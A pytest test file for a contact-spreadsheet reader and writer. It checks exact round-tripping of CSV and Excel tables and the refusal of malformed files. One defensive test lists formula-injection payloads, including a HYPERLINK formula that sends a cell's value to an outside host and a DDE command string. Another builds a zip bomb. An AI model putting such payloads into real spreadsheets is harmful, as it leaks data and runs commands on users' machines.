"""Tables as they come back from spreadsheets: taken exactly, or refused with line and column."""

from __future__ import annotations

import io
import os
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outreach import sheets
from outreach.errors import BadFile

COLUMNS = ("letter", "id", "name", "notes")
GOOD = b"letter,id,name,notes\r\na,X000001,Ann Test,x\r\na,X000002,Bob Test,y\r\n"
CELLS = [("a", "X000001", "Ann Test", "x"), ("a", "X000002", "Bob Test", "y")]


def read(folder: Path, data: bytes, **options: Any) -> sheets.Table:
    path = folder / "contacts.csv"
    path.write_bytes(data)
    options = {"columns": COLUMNS, "other_names": {"E-mail Address": "notes"}, "required": ("letter", "id")} | options
    return sheets.read(path, **options)


def cells(table: sheets.Table) -> list[tuple[str, ...]]:
    return [tuple(row.cells[column] for column in table.header) for row in table.rows]


def said(table: sheets.Table) -> list[str]:
    return [f"{problem} [{problem.level}]" for problem in table.problems]


TAKEN = {
    "plain": GOOD,
    "byte order mark": b"\xef\xbb\xbf" + GOOD,
    "UTF-16 LE": b"\xff\xfe" + GOOD.decode().encode("utf-16-le"),
    "UTF-16 BE": b"\xfe\xff" + GOOD.decode().encode("utf-16-be"),
    "semicolons": GOOD.replace(b",", b";"),
    "tabs": GOOD.replace(b",", b"\t"),
    "pipes": GOOD.replace(b",", b"|"),
    "a sep line": b"sep=;\r\n" + GOOD.replace(b",", b";"),
    "a sep line re-saved": b'"sep=,"\r\n' + GOOD.replace(b",", b";"),
    "LF": GOOD.replace(b"\r\n", b"\n"),
    "lone CR": GOOD.replace(b"\r\n", b"\r"),
    "no end of the last line": GOOD[:-2],
    "everything quoted": b"\r\n".join(
        b",".join(b'"%s"' % cell for cell in line.split(b",")) for line in GOOD.splitlines()
    ),
    "other case of the header": GOOD.replace(b"letter,id,name,notes", b" LETTER ,Id,NAME,Notes"),
    "another name of a column": GOOD.replace(b"notes", b"E-Mail address"),
    "blank columns at the end": GOOD.replace(b"\r\n", b",,\r\n"),
    "blank rows": GOOD.replace(b"\r\n", b"\r\n,,,\r\n\r\n"),
    "20,000 blank rows": GOOD + b",,,\r\n" * 20_000,
}


@pytest.mark.parametrize("data", TAKEN.values(), ids=list(TAKEN))
def test_what_spreadsheets_do_to_a_file_changes_nothing(tmp_path: Path, data: bytes) -> None:
    table = read(tmp_path, data)
    assert (table.header, cells(table), table.problems) == (COLUMNS, CELLS, ())


def test_rows_know_their_lines(tmp_path: Path) -> None:
    data = b'sep=,\r\nletter,id,name,notes\r\n\r\na,1,"x\ny",\r\n\r\na,2,z,\r\n'
    assert [row.line for row in read(tmp_path, data).rows] == [4, 7]


def test_order_of_columns_and_columns_that_people_add_stay(tmp_path: Path) -> None:
    table = read(tmp_path, b"id,Her view,letter\r\nX1,for,a\r\n")
    assert (table.header, cells(table)) == (("id", "Her view", "letter"), [("X1", "for", "a")])
    assert sheets.encode(table) == b"\xef\xbb\xbfid,Her view,letter\r\nX1,for,a\r\n"


@pytest.mark.parametrize(
    "cell",
    ["a\nb", "a\rb", "a\r\nb", "a\u2028b\x0b\x0c\x85\x1ec", 'say "x"', "a,b;c\td|e", " x ", "NA", "null", "None"],
)
@pytest.mark.parametrize("after", ["", "-", "1E5", "02134", "Núñez", "Nún\u0303ez", "O’Brien\u00a0", "’", "\u200b"])
def test_a_cell_is_taken_exactly(tmp_path: Path, cell: str, after: str) -> None:
    cell += after
    table = sheets.Table(COLUMNS, (sheets.Row(2, dict(zip(COLUMNS, ("a", "X1", "n", cell), strict=True))),))
    again = read(tmp_path, sheets.encode(table))
    assert cells(again) == [("a", "X1", "n", cell)]
    assert sheets.encode(again) == sheets.encode(table)


REFUSED = {
    "nothing": (b"", "contacts.csv: is empty"),
    "blank lines": (b"\r\n\r\n \r\n", "contacts.csv: is empty"),
    "only commas": (b",,,\r\n,,\r\n", "contacts.csv: is empty"),
    "UTF-16 without a mark": (
        GOOD.decode().encode("utf-16-le"),
        "contacts.csv:1: has a NUL byte (character 2 of the line)",
    ),
    "NUL": (GOOD.replace(b"Bob", b"B\0b"), "contacts.csv:3: has a NUL byte (character 12 of the line)"),
    "cp1252": (
        "letter,id\r\na,Núñez\r\n".encode("cp1252"),
        "contacts.csv:2: the byte 0xFA (character 4 of the line) is not UTF-8",
    ),
    "mac-roman": (
        "letter,id\ra,é\r".encode("mac-roman"),
        "contacts.csv:2: the byte 0x8E (character 3 of the line) is not UTF-8",
    ),
    "marked, then cp1252": (
        b"\xef\xbb\xbfletter,id\r\na,\xfa\r\n",
        "contacts.csv:2: the byte 0xFA (character 3 of the line)",
    ),
    "open quote": (
        b"letter,id\r\na,1\r\na,2\r\n" + b'a,"3\r\n' + b"a,4\r\n" * 1000,
        "contacts.csv:4: the quote that opens in this line (character 3) is not closed",
    ),
    "open quote, closed by a later one": (
        b'letter,id,name\r\na,"1,x\r\na,2,"Ann"\r\n',
        "contacts.csv:2: the quote that opens in this line (character 3) is not closed",
    ),
    "text after a quote": (b'letter,id\r\na,"Ann"x\r\n', "contacts.csv:2: there is text after a closing quote; write"),
    "backslash": (b'letter,id\r\na,"A \\"x\\" B"\r\n', "contacts.csv:2: there is text after a closing quote; a backs"),
    "large cell": (b"letter,id\r\na," + b"x" * 40_000, "contacts.csv:2: a cell in column B is larger than 32 KiB"),
    "huge cell": (b'letter,id\r\na,"' + b"x" * 2_000_000, "contacts.csv:2: a cell is larger than 32 KiB"),
    "header one short": (
        b"letter,id,name\r\na,1,x,y\r\na,2,x,y\r\n",
        "contacts.csv:1: the header has 3 names, the rows have 4 cells",
    ),
    "column twice": (b"letter,id,Email,email\r\na,1,,\r\n", 'contacts.csv:1: the columns C and D are both "email"'),
    "no id": (b"letter,name\r\na,x\r\n", "contacts.csv:1: has no column id; the first line has: letter, name"),
    "misspelled id": (b"letter,idd\r\na,x\r\n", 'contacts.csv:1: has no column id; did you mean "id" by "idd"?'),
    "no header": (b"a,X000001,Ann\r\n", "contacts.csv:1: has no column letter and id; the first line has: a, X000001"),
    "web page": (b"\r\n<!DOCTYPE html><html>", "contacts.csv: is a web page, not a CSV table"),
    "PDF": (b"%PDF-1.7\r\n", "contacts.csv: is a PDF"),
    "JPEG": (b"\xff\xd8\xff\xe0", "contacts.csv: is a picture (JPEG)"),
    "old Excel": (b"\xd0\xcf\x11\xe0\xa1\xb1", "contacts.csv: is an old Excel workbook (.xls) or one with a password"),
    "another zip": (b"PK\x03\x04xx", "contacts.csv: is a workbook or another zipped document"),
    "201 columns": (b"letter,id" + b",x" * 200 + b"\r\n", "contacts.csv:1: has more than 200 columns"),
}


@pytest.mark.parametrize(("data", "start"), REFUSED.values(), ids=list(REFUSED))
def test_what_could_only_be_guessed_is_refused(tmp_path: Path, data: bytes, start: str) -> None:
    with pytest.raises(BadFile) as caught:
        read(tmp_path, data)
    assert str(caught.value).startswith(start)


def test_too_many_rows_are_refused(tmp_path: Path) -> None:
    with pytest.raises(BadFile, match="has more than 200,000 rows"):
        read(tmp_path, b"letter,id\n" + b"a,1\n" * 200_001)


def test_an_encoding_that_a_person_names_is_used(tmp_path: Path) -> None:
    table = read(tmp_path, "letter,id\r\na,Núñez’s\r\n".encode("cp1252"), encoding="cp1252")
    assert cells(table) == [("a", "Núñez’s")]
    with pytest.raises(BadFile, match="there is no encoding 'cp-x'"):
        read(tmp_path, GOOD, encoding="cp-x")


NOTED = {
    "two marks": (
        b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD,
        "contacts.csv:1: has more than one byte order mark; they are left out [warning]",
    ),
    "mixed line ends": (
        GOOD.replace(b"x\r\n", b"x\n"),
        "contacts.csv: has line ends of several kinds; they are taken as line ends [warning]",
    ),
    "quote inside": (
        GOOD.replace(b"Ann Test", b'An"n Test').replace(b"Bob Test", b'"Bob Test"'),
        "contacts.csv:2: there is a quote inside the cell in column C (name); it is kept [warning]",
    ),
    "cell too many": (
        GOOD.replace(b",y", b",y,,z"),
        "contacts.csv:3: there is 'z' in column F, which has no name; "
        "put it where it belongs, or name the column [error]",
    ),
    "short row": (
        GOOD.replace(b",Bob Test,y", b""),
        "contacts.csv:3: has 2 cells where the header has 4; the missing ones are taken as empty [warning]",
    ),
    "misspelled column": (
        GOOD.replace(b"name", b"nmae"),
        'contacts.csv:1: nmae: is no column that we know; did you mean "name"? [error]',
    ),
    "header twice": (
        GOOD + GOOD,
        "contacts.csv:4: is the header once more; were two files put together? delete this line [error]",
    ),
    "lines above": (
        b"Our list,,,\r\n" + GOOD,
        "contacts.csv:1: the names of the columns are in line 2; the lines above it are left out [warning]",
    ),
}


@pytest.mark.parametrize(("data", "problem"), NOTED.values(), ids=list(NOTED))
def test_what_is_odd_is_said(tmp_path: Path, data: bytes, problem: str) -> None:
    assert said(read(tmp_path, data)) == [problem]


def test_lines_above_the_header_are_kept_on_writing(tmp_path: Path) -> None:
    data = b"\xef\xbb\xbfOur list,,,\r\n" + GOOD
    assert sheets.encode(read(tmp_path, data)) == data


@pytest.mark.parametrize("data", [b"\xef\xbb\xbf" + GOOD, b"\xef\xbb\xbf" + GOOD.replace(b",", b";")])
def test_reading_and_writing_changes_no_byte(tmp_path: Path, data: bytes) -> None:
    assert sheets.encode(read(tmp_path, data)) == data


def test_a_renamed_column_keeps_its_name(tmp_path: Path) -> None:
    data = b"\xef\xbb\xbf" + GOOD.replace(b"notes", b"E-mail Address")
    assert sheets.encode(read(tmp_path, data)) == data


def test_what_is_no_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(tmp_path / "gone")
    for name, what in ((".", "is a folder"), ("none", "there is no such file"), ("link", "is a link to a file")):
        with pytest.raises(BadFile, match=what):
            sheets.read(tmp_path / name)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no FIFOs")
def test_a_pipe_or_a_device_is_refused_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path in (tmp_path / "pipe", Path("/dev/zero")):
        with pytest.raises(BadFile, match="is no plain file"):
            sheets.read(path)


def test_rows_take_any_table(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(b"Ann Test\r\n\r\nBob Test\r\n")
    assert sheets.rows(path) == [["Ann Test"], ["Bob Test"]]


LIVE = ['=HYPERLINK("http://x/?"&A1,"c")', "=cmd|'/C calc'!A0", "@SUM(1)", "+1", "-1", "\t=1", " =1", "\u200b=1"]
LIVE += ["＝1", "\n=1", "%0A=1", "|x", "\r=1"]


@pytest.mark.parametrize("text", LIVE)
def test_nothing_that_could_run_is_written_bare(text: str) -> None:
    assert sheets.guarded(text) == "'" + text


@given(st.text(alphabet=st.sampled_from("'=+-@|% \t\r\n\u200bax1＝"), max_size=8) | st.text())
@settings(max_examples=2000, deadline=None)
def test_the_guard_can_be_taken_off(text: str) -> None:
    assert sheets.unguarded(sheets.guarded(text)) == text


CELL = st.text(
    alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0")
    | st.sampled_from("\r\n\"',;|\t=' \u2028\ufeff"),
    max_size=12,
)


@given(st.lists(st.tuples(CELL, CELL, CELL), min_size=1, max_size=6))
@settings(max_examples=500, deadline=None)
def test_any_table_comes_back_as_it_was(tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, ...]]) -> None:
    header = ("letter", "id", "notes")
    made = tuple(
        sheets.Row(at, dict(zip(header, ("a", f"X{at}" + row[0], row[1] + row[2]), strict=True)))
        for at, row in enumerate(rows)
    )
    table = sheets.Table(header, made)
    folder = tmp_path_factory.mktemp("tables")
    again = read(folder, sheets.encode(table))
    assert cells(again) == cells(table)
    assert sheets.encode(again) == sheets.encode(table)


@pytest.mark.parametrize("text", ["a\0b", "\ud800", "x" * 40_000])
def test_what_could_not_be_read_back_is_not_written(text: str) -> None:
    with pytest.raises(sheets.Unwritable):
        sheets.encode_rows([[text]])


def workbook(path: Path, *contents: list[list[Any]]) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    del book["Sheet"]
    for number, rows in enumerate(contents):
        sheet = book.create_sheet(f"S{number}")
        for row in rows:
            sheet.append(row)
    book.save(path)


def test_a_workbook_is_read_as_people_see_it(tmp_path: Path) -> None:
    import openpyxl

    path = tmp_path / "back.xlsx"
    workbook(
        path,
        [],
        [
            ["letter", "id", "when", "zip", "n"],
            ["a", "X1", datetime.fromisoformat("2017-07-13"), 2134, 1.5],
            ["b", True],
        ],
    )
    book = openpyxl.load_workbook(path)
    book["S1"]["D2"].number_format = "00000"
    book["S1"]["C3"] = date(2020, 1, 2)
    book["S1"]["E3"] = 12025550123
    book["S1"]["ZZ5000"] = ""
    book.save(path)
    table = sheets.read(path, columns=("letter", "id"), required=("letter", "id"))
    assert cells(table) == [("a", "X1", "2017-07-13", "02134", "1.5"), ("b", "TRUE", "2020-01-02", "", "12025550123")]
    assert table.problems == ()


def test_errors_and_formulas_without_a_value_are_problems(tmp_path: Path) -> None:
    path = tmp_path / "back.xlsx"
    workbook(path, [["letter", "id", "notes"], ["a", "X1", "#REF!"], ["a", "X2", "=1+1"]])
    table = sheets.read(path, columns=COLUMNS, required=("letter", "id"))
    assert [str(problem) for problem in table.problems] == [
        "back.xlsx:2: C (notes): the spreadsheet shows the error #REF!; write the value there",
        "back.xlsx:3: C (notes): has a formula whose result is not saved; "
        "open the file in a spreadsheet and save it again, or write the value there",
    ]


def test_several_sheets_with_data_are_not_chosen_from(tmp_path: Path) -> None:
    workbook(tmp_path / "a.xlsx", [["x", "y"], [1, 2]], [["x", "y"], [3, 4]])
    with pytest.raises(BadFile, match=r"has 2 sheets with something in them \(S0, S1\)"):
        sheets.rows(tmp_path / "a.xlsx")
    workbook(tmp_path / "b.xlsx", [["how to"]], [["letter", "id"], ["a", "X1"]])
    table = sheets.read(tmp_path / "b.xlsx", columns=COLUMNS, required=("letter", "id"))
    assert cells(table) == [("a", "X1")]


def test_a_bomb_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/workbook.xml", b" " * 30_000_000)
    (tmp_path / "bomb.xlsx").write_bytes(buffer.getvalue())
    with pytest.raises(BadFile, match="far larger inside than outside"):
        sheets.rows(tmp_path / "bomb.xlsx")


def test_a_broken_workbook_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as broken:
        broken.writestr("xl/workbook.xml", b"<no")
    (tmp_path / "broken.xlsx").write_bytes(buffer.getvalue())
    with pytest.raises(BadFile, match="cannot be read as a workbook"):
        sheets.rows(tmp_path / "broken.xlsx")


def test_a_workbook_that_we_write_has_nothing_but_text(tmp_path: Path) -> None:
    import openpyxl

    rows = [["=1+1", "http://x.org", "02134"], ["@x", "", "2017-07-13"]]
    path = tmp_path / "ours.xlsx"
    path.write_bytes(sheets.encode_workbook(("a", "b", "c"), rows))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    assert sheets.rows(path) == [["a", "b", "c"], *rows]
